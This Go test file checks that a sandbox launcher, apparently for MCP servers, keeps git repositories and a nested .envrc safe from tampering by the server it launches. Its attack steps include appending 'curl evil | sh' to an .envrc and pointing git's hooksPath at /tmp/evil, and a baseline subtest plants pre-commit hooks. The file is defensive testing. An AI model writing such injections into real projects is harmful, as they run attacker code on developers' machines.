//go:build linux

package launch_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/mcpguard/mcpguard/guard/launch"
	"github.com/mcpguard/mcpguard/lab/attack"
)

// stepsEnv makes this test binary run attack steps (a JSON list of
// [name, arg]) as the launched server, printing "name result" per step.
const stepsEnv = "MCPGUARD_LAUNCH_TEST_STEPS"

func init() {
	raw := os.Getenv(stepsEnv)
	if raw == "" {
		return
	}
	var steps [][2]string
	if err := json.Unmarshal([]byte(raw), &steps); err != nil {
		fmt.Println("steps", err)
		os.Exit(2)
	}
	all := attack.Steps()
	maps.Copy(all, attack.ProcSteps())
	for _, s := range steps {
		r := "ok"
		if err := all[s[0]](s[1]); err != nil {
			r = "err " + strings.ReplaceAll(err.Error(), "\n", " ")
		}
		fmt.Println(s[0], r)
	}
	os.Exit(0)
}

// TestProtectByIdentity runs the git attacks through the real launcher
// (root: mount and pid namespaces, read-only outside the write root) with
// no kernel policy at all, neither BPF LSM nor Landlock: what keeps the
// repositories intact is the launcher's pins and read-only binds alone,
// the layer both backends share. The oracle is the repositories.
func TestProtectByIdentity(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("the launcher's namespaces need root")
	}
	ws := t.TempDir()
	type repo struct {
		git          string
		ino, hooksIn uint64
	}
	stat := func(p string) uint64 {
		var st unix.Stat_t
		require.NoError(t, unix.Stat(p, &st), p)
		return st.Ino
	}
	var repos []*repo
	for _, dir := range []string{ws, filepath.Join(ws, "proj"), filepath.Join(ws, "group", "sub")} {
		git := filepath.Join(dir, ".git")
		require.NoError(t, os.MkdirAll(filepath.Join(git, "hooks"), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(git, "config"), []byte("[core]\n"), 0o644))
		repos = append(repos, &repo{git: git, ino: stat(git), hooksIn: stat(filepath.Join(git, "hooks"))})
	}
	// A submodule's git directory inside proj's .git: git runs its hooks
	// and obeys its config when the user works in the submodule.
	sub := filepath.Join(ws, "proj", ".git", "modules", "sub")
	require.NoError(t, os.MkdirAll(filepath.Join(sub, "hooks"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(sub, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(sub, "config"), []byte("[core]\n"), 0o644))
	repos = append(repos, &repo{git: sub, ino: stat(sub), hooksIn: stat(filepath.Join(sub, "hooks"))})
	envrc := filepath.Join(ws, "group", ".envrc")
	require.NoError(t, os.WriteFile(envrc, []byte("# empty\n"), 0o644))
	proj := filepath.Join(ws, "proj")
	steps := [][2]string{
		{"gitswap", ws},
		{"gitswap", proj},
		{"gitnew", proj},
		{"dirswap", proj},
		{"dirswap", filepath.Join(ws, "group") + "#sub/.git"},
		{"gitlink", proj},
		{"symswap", ws},
		{"symswap", filepath.Join(ws, "group", "sub")},
		{"symwrite", proj},
		{"append", filepath.Join(proj, ".git", "config") + "#\thooksPath = /tmp/evil\n"},
		{"append", envrc + "#curl evil | sh\n"},
		{"append", filepath.Join(sub, "config") + "#\thooksPath = /tmp/evil\n"},
		{"dirswap", sub + "#."},
		{"dirswap", filepath.Join(ws, "proj", ".git", "modules") + "#sub"},
	}
	raw, err := json.Marshal(steps)
	require.NoError(t, err)
	self, err := os.Executable()
	require.NoError(t, err)
	cmd := exec.Command(self)
	cmd.Env = append(os.Environ(), stepsEnv+"="+string(raw), launch.UserEnv+"=")
	spec, err := launch.NewSpec(0, func(string) string { return "" }, []string{ws})
	require.NoError(t, err)
	spec.Reach = []string{self} // the server program, in a 0700 build directory
	l, err := launch.Prepare(cmd, spec, launch.Options{})
	require.NoError(t, err)
	defer l.Close()
	out, err := cmd.CombinedOutput()
	if err != nil && strings.Contains(string(out), "operation not permitted") {
		t.Skipf("namespaces refused here: %s", out)
	}
	require.NoError(t, err, "%s", out)
	t.Logf("results:\n%s", out)
	assert.Equal(t, len(steps), strings.Count(string(out), "\n"), "every step ran")

	for _, r := range repos {
		assert.Equal(t, r.ino, stat(r.git), "%s is still the same directory", r.git)
		assert.Equal(t, r.hooksIn, stat(filepath.Join(r.git, "hooks")), "%s/hooks is still the same directory", r.git)
		ents, err := os.ReadDir(filepath.Join(r.git, "hooks"))
		require.NoError(t, err)
		assert.Empty(t, ents, "no hook planted in %s", r.git)
		cfg, err := os.ReadFile(filepath.Join(r.git, "config"))
		require.NoError(t, err)
		assert.Equal(t, "[core]\n", string(cfg), r.git)
	}
	b, err := os.ReadFile(envrc)
	require.NoError(t, err)
	assert.Equal(t, "# empty\n", string(b), "a nested .envrc")
	// The same attacks without the launcher succeed, so the test can fail.
	t.Run("baseline", func(t *testing.T) {
		base := exec.Command(self)
		base.Env = append(os.Environ(), stepsEnv+`=[["dirswap",`+strconvQuote(proj)+`],["dirswap",`+strconvQuote(sub+"#.")+`]]`)
		out, err := base.CombinedOutput()
		require.NoError(t, err, "%s", out)
		assert.Equal(t, "dirswap ok\ndirswap ok\n", string(out))
		assert.FileExists(t, filepath.Join(proj, ".git", "hooks", "pre-commit"))
		assert.FileExists(t, filepath.Join(sub, "hooks", "pre-commit"))
	})
}

func strconvQuote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// TestEgressHandshake: with an egress descriptor, stage 1 starts the
// server only once the guard says the network is ready; a guard that
// closes the descriptor without saying so (it failed, or died) leaves the
// server unstarted. The server always has a network namespace of its own.
func TestEgressHandshake(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("namespaces need a root proxy")
	}
	run := func(ready bool) (string, error) {
		dir := t.TempDir()
		marker := filepath.Join(dir, "ran")
		cmd := exec.Command("/usr/bin/touch", marker)
		cmd.Env = append(os.Environ(), launch.UserEnv+"=")
		spec, err := launch.NewSpec(0, func(string) string { return "" }, []string{dir})
		require.NoError(t, err)
		gate, err := launch.AttachEgress(cmd, &spec)
		require.NoError(t, err)
		l, err := launch.Prepare(cmd, spec, launch.Options{})
		require.NoError(t, err)
		defer l.Close()
		require.NoError(t, cmd.Start())
		netns, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/net", cmd.Process.Pid))
		require.NoError(t, err)
		own, err := os.Readlink("/proc/self/ns/net")
		require.NoError(t, err)
		assert.NotEqual(t, own, netns, "stage 1 is in a network namespace of its own")
		if ready {
			require.NoError(t, gate.Open())
		}
		gate.Close()
		err = cmd.Wait()
		_, statErr := os.Stat(marker)
		if statErr == nil {
			return "ran", err
		}
		return "not run", err
	}
	got, err := run(true)
	require.NoError(t, err)
	assert.Equal(t, "ran", got)
	got, err = run(false)
	var ee *exec.ExitError
	require.ErrorAs(t, err, &ee)
	assert.Equal(t, launch.ExitCode, ee.ExitCode())
	assert.Equal(t, "not run", got)
}
